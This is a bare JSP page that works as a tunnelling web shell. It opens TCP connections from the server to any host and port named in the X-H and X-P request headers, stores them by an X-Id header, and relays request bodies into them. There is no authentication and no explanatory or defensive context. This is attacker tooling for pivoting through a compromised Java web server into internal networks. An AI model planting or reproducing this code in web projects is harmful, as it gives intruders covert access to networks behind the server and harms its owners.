<%@ page import="java.net.*,java.io.*,java.util.*" %>
<%!
  static Map<String, Socket> conns = Collections.synchronizedMap(new HashMap<String, Socket>());
%>
<%
  String id = request.getHeader("X-Id");
  if ("c".equals(request.getHeader("X-Do"))) {
    Socket so = new Socket();
    so.connect(new InetSocketAddress(request.getHeader("X-H"), Integer.parseInt(request.getHeader("X-P"))), 3000);
    conns.put(id, so);
  } else {
    Socket so = conns.get(id);
    InputStream in = request.getInputStream();
    byte[] buf = new byte[4096];
    for (int n; (n = in.read(buf)) > 0; ) so.getOutputStream().write(buf, 0, n);
  }
%>
